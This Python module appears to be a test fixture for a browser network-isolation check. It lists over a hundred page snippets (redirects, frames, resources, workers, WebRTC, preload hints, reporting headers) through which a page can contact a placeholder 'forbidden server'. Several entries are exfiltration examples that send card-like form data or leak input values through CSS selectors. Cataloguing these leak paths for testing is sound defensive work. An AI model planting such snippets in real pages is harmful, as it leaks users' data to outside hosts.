"""The ways in which a page can make its browser connect to another host."""

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Channel:
    """One page of the own site. `@` in its parts is the forbidden server's address, without a slash at the end."""

    name: str
    html: str = ""
    script: str = ""
    headers: tuple[str, ...] = ()
    click: bool = False
    """The element with the id `go` is clicked, as by a person."""
    path: str = ""
    """Opened instead of the page of this channel: an answer of the own site that redirects."""
    leave: bool = False
    """The page is left for another one of the own site."""
    kind: str = "text/html"


def _redirects() -> Iterator[Channel]:
    for code in (301, 302, 303, 307, 308):
        yield Channel(f"navigation redirected {code}", path=f"/redirect/{code}")
    for code in (302, 307, 308):
        form = f'<form id=f method=post action="/redirect/{code}?to=@/"><input name=card value=4111></form>'
        yield Channel(f"form POST redirected {code}", form, "f.submit()")
        yield Channel(
            f"fetch POST redirected {code}",
            script=f"fetch('/redirect/{code}?to=@/', {{method: 'POST', mode: 'no-cors', body: 'card=4111'}})",
        )
    yield Channel("image redirected", '<img src="/redirect/302?to=@/">')
    yield Channel("script redirected", '<script src="/redirect/302?to=@/"></script>')
    yield Channel("frame redirected", '<iframe src="/redirect/302?to=@/"></iframe>')
    yield Channel("worker's fetch redirected", script=_worker("fetch('/redirect/307?to=@/', {mode: 'no-cors'})"))
    yield Channel("Refresh header", headers=("Refresh: 0;url=@/",))


def _navigations() -> Iterator[Channel]:
    yield Channel("meta refresh", '<meta http-equiv=refresh content="0;url=@/">')
    yield Channel("location.href", script="location.href = '@/'")
    yield Channel("location.replace", script="location.replace('@/')")
    yield Channel("form GET", '<form id=f action="@/"><input name=card value=4111></form>', "f.submit()")
    yield Channel("form POST", '<form id=f method=post action="@/"><input name=card></form>', "f.submit()")
    yield Channel(
        "formaction of a button", '<form><button id=go formaction="@/" formmethod=post>x</button></form>', click=True
    )
    yield Channel("window.open", script="window.open('@/')")
    yield Channel("link", '<a id=go href="@/">x</a>', click=True)
    yield Channel("link in a new tab", '<a id=go target=_blank href="@/">x</a>', click=True)
    yield Channel("ping of a link", '<a id=go ping="@/" href="#here">x</a>', click=True)
    yield Channel("download link", '<a id=go download href="@/file.bin">x</a>', click=True)
    yield Channel("javascript: address", "<a id=go href=\"javascript:location='@/'\">x</a>", click=True)
    yield Channel("https navigation", script="location.href = '@/'.replace('http:', 'https:')")
    yield Channel("view transition of the Navigation API", script="navigation.navigate('@/')")


def _frames() -> Iterator[Channel]:
    yield Channel("iframe", '<iframe src="@/"></iframe>')
    yield Channel("sandboxed iframe", '<iframe sandbox="allow-scripts allow-forms" src="@/"></iframe>')
    yield Channel("picture in a srcdoc frame", "<iframe srcdoc=\"<img src='@/'>\"></iframe>")
    yield Channel("picture in a data: frame", "<iframe src=\"data:text/html,<img src='@/'>\"></iframe>")
    yield Channel(
        "fetch in a blob: frame",
        "<iframe id=i></iframe>",
        'i.src = URL.createObjectURL(new Blob([\'<script>fetch("@/",{mode:"no-cors"})<\\/script>\'],'
        "{type: 'text/html'}))",
    )
    yield Channel("frame led by its parent", "<iframe name=inner></iframe>", "frames[0].location = '@/'")
    yield Channel(
        "meta refresh in a frame", "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=@/'>\"></iframe>"
    )
    yield Channel("object", '<object data="@/"></object>')
    yield Channel("embed", '<embed src="@/x.html" type="text/html">')
    yield Channel("fenced frame", "<fencedframe></fencedframe>", _FENCED)
    yield Channel("frameset", '<iframe src="/frameset?to=@/"></iframe>')


_FENCED = "document.querySelector('fencedframe').config = new FencedFrameConfig('@/'.replace('http:', 'https:'))"


def _resources() -> Iterator[Channel]:
    yield Channel("img", '<img src="@/">')
    yield Channel("img srcset", '<img srcset="@/ 1x, @/2 2x">')
    yield Channel("picture source", '<picture><source srcset="@/"><img></picture>')
    yield Channel("https img", script="new Image().src = '@/'.replace('http:', 'https:')")
    yield Channel("input type=image", '<input type=image src="@/">')
    yield Channel("body background", '<table background="@/"><tr><td>x</table>')
    yield Channel("style background", '<div style="background: url(@/)">x</div>')
    yield Channel("style image-set", '<div style="background: image-set(url(@/) 1x)">x</div>')
    yield Channel("style cursor", '<style>body { cursor: url("@/c.png"), auto }</style><p id=go>x</p>', click=True)
    yield Channel("style @import", '<style>@import url("@/a.css");</style>')
    yield Channel("style sheet", '<link rel=stylesheet href="@/a.css">')
    yield Channel(
        "font", '<style>@font-face { font-family: f; src: url("@/f.woff2") } p { font-family: f }</style><p>x'
    )
    yield Channel("FontFace", script="new FontFace('f', 'url(@/f.woff2)').load()")
    yield Channel(
        "style with attribute selectors", '<style>input[value^="4"] {background: url("@/4")}</style><input value=4>'
    )
    yield Channel("video", '<video autoplay muted src="@/v.mp4"></video>')
    yield Channel("video poster", '<video poster="@/p.png"></video>')
    yield Channel("audio", '<audio preload=auto src="@/a.mp3"></audio>')
    yield Channel(
        "track",
        '<video crossorigin src="/v.mp4"><track default src="@/t.vtt"></video>',
        "document.querySelector('track').track.mode = 'showing'",
    )
    yield Channel("SVG image", '<svg><image href="@/i.png" width=9 height=9 /></svg>')
    yield Channel(
        "SVG feImage",
        '<svg><filter id=f><feImage href="@/i.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
    )
    yield Channel("SVG use", '<svg><use href="@/i.svg#x"/></svg>')
    yield Channel("SVG script", '<svg><script href="@/s.js"></script></svg>')
    yield Channel("favicon", '<link rel=icon href="@/f.ico">')
    yield Channel("manifest", '<link rel=manifest crossorigin=use-credentials href="@/m.json">')
    yield Channel("XSLT", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="@/x.xsl"?><a/>', kind="text/xml")
    yield Channel("XML document type", '<?xml version="1.0"?><!DOCTYPE a SYSTEM "@/a.dtd"><a/>', kind="text/xml")
    yield Channel(
        "XML style sheet", '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="@/x.css"?><a/>', kind="text/xml"
    )
    yield Channel("attribution source", '<img attributionsrc="@/" src="data:,">')


def _scripts() -> Iterator[Channel]:
    yield Channel("script", '<script src="@/s.js"></script>')
    yield Channel("module", '<script type=module src="@/s.js"></script>')
    yield Channel("dynamic import", script="import('@/s.js')")
    yield Channel(
        "import map",
        '<script type=importmap>{"imports": {"x": "@/s.js"}}</script><script type=module>import "x"</script>',
    )
    yield Channel("document.write", script="document.write('<script src=\"@/s.js\"><\\/script>')")
    yield Channel("fetch", script="fetch('@/')")
    yield Channel("fetch no-cors POST", script="fetch('@/', {method: 'POST', mode: 'no-cors', body: 'card=4111'})")
    yield Channel("fetch with preflight", script="fetch('@/', {method: 'PUT', headers: {a: 'b'}})")
    yield Channel(
        "fetch keepalive while leaving",
        script="onpagehide = () => fetch('@/', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})",
        leave=True,
    )
    yield Channel("fetchLater", script="fetchLater('@/'.replace('http:', 'https:'), {activateAfter: 0})", leave=True)
    yield Channel("XMLHttpRequest", script="{const x = new XMLHttpRequest(); x.open('POST', '@/'); x.send('x');}")
    yield Channel(
        "synchronous XMLHttpRequest", script="{const x = new XMLHttpRequest(); x.open('GET', '@/', false); x.send();}"
    )
    yield Channel("sendBeacon", script="navigator.sendBeacon('@/', 'card=4111')")
    yield Channel("sendBeacon while leaving", script="onpagehide = () => navigator.sendBeacon('@/', 'x')", leave=True)
    yield Channel("EventSource", script="new EventSource('@/')")
    yield Channel("WebSocket", script="new WebSocket('@/'.replace('http', 'ws'))")
    yield Channel("secure WebSocket", script="new WebSocket('@/'.replace('http', 'wss'))")
    yield Channel("WebSocketStream", script="new WebSocketStream('@/'.replace('http', 'ws'))")
    yield Channel("cache.add", script="caches.open('c').then(c => c.add('@/'))")
    yield Channel("WebAssembly", script="WebAssembly.instantiateStreaming(fetch('@/w.wasm', {mode: 'cors'}))")
    yield Channel("audio worklet", script="new AudioContext().audioWorklet.addModule('@/s.js')")
    yield Channel("paint worklet", script="CSS.paintWorklet.addModule('@/s.js')")
    yield Channel("shared storage worklet", script="sharedStorage.createWorklet('@/s.js'.replace('http:', 'https:'))")


def _worker(source: str, kind: str = "Worker") -> str:
    """Start a worker of the own site that does `source`."""
    return f"new {kind}('/worker.js?source=' + encodeURIComponent({source!r}))"


_SERVICE = (
    "navigator.serviceWorker.register('/service.js?source=' + encodeURIComponent({source!r}),"
    " {{scope: '/scope/{name}'}})"
)


def _workers() -> Iterator[Channel]:
    yield Channel("worker's fetch", script=_worker("fetch('@/', {mode: 'no-cors'})"))
    yield Channel("worker's importScripts", script=_worker("importScripts('@/s.js')"))
    yield Channel("worker's WebSocket", script=_worker("new WebSocket('@/'.replace('http', 'ws'))"))
    yield Channel("worker's EventSource", script=_worker("new EventSource('@/')"))
    yield Channel(
        "worker's XMLHttpRequest", script=_worker("x = new XMLHttpRequest(); x.open('POST', '@/'); x.send('x')")
    )
    yield Channel(
        "worker in a worker", script=_worker("new Worker('/worker.js?source=' + encodeURIComponent(`fetch('@/')`))")
    )
    yield Channel(
        "module worker's import",
        script="new Worker(URL.createObjectURL(new Blob(['import \"@/s.js\"'], {type: 'text/javascript'})),"
        "{type: 'module'})",
    )
    yield Channel("shared worker's fetch", script=_worker("fetch('@/', {mode: 'no-cors'})", "SharedWorker"))
    yield Channel("shared worker's importScripts", script=_worker("importScripts('@/s.js')", "SharedWorker"))
    yield Channel(
        "service worker's fetch", script=_SERVICE.format(source="fetch('@/', {mode: 'no-cors'})", name="fetch")
    )
    yield Channel(
        "service worker's importScripts", script=_SERVICE.format(source="importScripts('@/s.js')", name="import")
    )
    yield Channel(
        "background fetch",
        script="navigator.serviceWorker.register('/service.js', {scope: '/scope/background'}).then(async r => {"
        "while (!r.active) await new Promise(f => setTimeout(f, 50)); r.backgroundFetch.fetch('x', ['@/']) })",
    )


_STUN = (
    "{{const p = new RTCPeerConnection({{iceServers: [{{urls: '{url}'.replace('http://', ''), username: 'u',"
    " credential: 'c'}}]}}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));"
    " window.p = p}}"
)


def _protocols() -> Iterator[Channel]:
    yield Channel("WebRTC over STUN", script=_STUN.format(url="stun:@"))
    yield Channel("WebRTC over TURN, UDP", script=_STUN.format(url="turn:@?transport=udp"))
    yield Channel("WebRTC over TURN, TCP", script=_STUN.format(url="turn:@?transport=tcp"))
    yield Channel(
        "WebRTC to a candidate of the page's",
        script="{const p = new RTCPeerConnection(); p.createDataChannel('x'); p.createOffer().then(async o => {"
        "await p.setLocalDescription(o); const q = new RTCPeerConnection(); await q.setRemoteDescription(o);"
        "const a = await q.createAnswer(); await q.setLocalDescription(a); await p.setRemoteDescription(a);"
        "const [h, n] = '@'.replace('http://', '').split(':');"
        "await p.addIceCandidate({candidate: `candidate:1 1 udp 2122260223 ${h} ${n} typ host`, sdpMid: '0'}) });"
        "window.p = p}",
    )
    yield Channel("WebTransport", script="window.w = new WebTransport('@/'.replace('http:', 'https:'))")
    yield Channel(
        "Alt-Svc",
        headers=('Alt-Svc: h3="@authority"; ma=60, h2="@authority"; ma=60',),
        script="fetch('/other').then(() => fetch('/other'))",
    )


def _hints() -> Iterator[Channel]:
    rules = '<script type=speculationrules>{{"{what}": [{{"source": "list", "urls": ["@/"]{more}}}]}}</script>'
    yield Channel("prefetch", '<link rel=prefetch href="@/">')
    yield Channel("preconnect", '<link rel=preconnect href="@/">')
    yield Channel("https preconnect", script=_LINK.format(rel="preconnect"))
    yield Channel("dns-prefetch", '<link rel=dns-prefetch href="@/">')
    yield Channel("preload", '<link rel=preload as=image href="@/">')
    yield Channel("modulepreload", '<link rel=modulepreload href="@/s.js">')
    yield Channel("prerender", '<link rel=prerender href="@/">')
    yield Channel("speculation rules: prefetch", rules.format(what="prefetch", more=""))
    yield Channel("speculation rules: prerender", rules.format(what="prerender", more=""))
    redirected = rules.replace("@/", "/redirect/302?to=@/")
    yield Channel("speculation rules: prefetch redirected", redirected.format(what="prefetch", more=""))
    yield Channel("speculation rules: prerender redirected", redirected.format(what="prerender", more=""))
    yield Channel("Link header: preload", headers=("Link: <@/>; rel=preload; as=image",))
    yield Channel("Link header: preconnect", headers=("Link: <@/>; rel=preconnect",))
    yield Channel("compression dictionary", '<link rel=compression-dictionary href="@/d.dict">')


_LINK = (
    "document.head.append(Object.assign(document.createElement('link'),"
    " {{rel: '{rel}', href: '@/'.replace('http:', 'https:')}}))"
)


def _reports() -> Iterator[Channel]:
    blocked = "<img src='http://127.0.0.9/blocked.png'>"
    yield Channel("CSP report-uri", blocked, headers=("Content-Security-Policy: img-src 'none'; report-uri @/",))
    yield Channel(
        "CSP report-only", blocked, headers=("Content-Security-Policy-Report-Only: img-src 'none'; report-uri @/",)
    )
    yield Channel(
        "reporting endpoint",
        blocked,
        headers=('Reporting-Endpoints: e="@/"', "Content-Security-Policy: img-src 'none'; report-to e"),
    )
    yield Channel(
        "Report-To and NEL",
        blocked,
        headers=(
            'Report-To: {"group": "e", "max_age": 60, "endpoints": [{"url": "@/"}]}',
            'NEL: {"report_to": "e", "max_age": 60, "success_fraction": 1}',
            "Content-Security-Policy: img-src 'none'; report-to e",
        ),
    )
    yield Channel(
        "payment manifest",
        "<button id=go onclick=\"new PaymentRequest([{supportedMethods: '@/pay'.replace('http:', 'https:')}],"
        "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).show()\">x</button>",
        click=True,
    )


CHANNELS: tuple[Channel, ...] = (
    *_redirects(),
    *_navigations(),
    *_frames(),
    *_resources(),
    *_scripts(),
    *_workers(),
    *_protocols(),
    *_hints(),
    *_reports(),
)
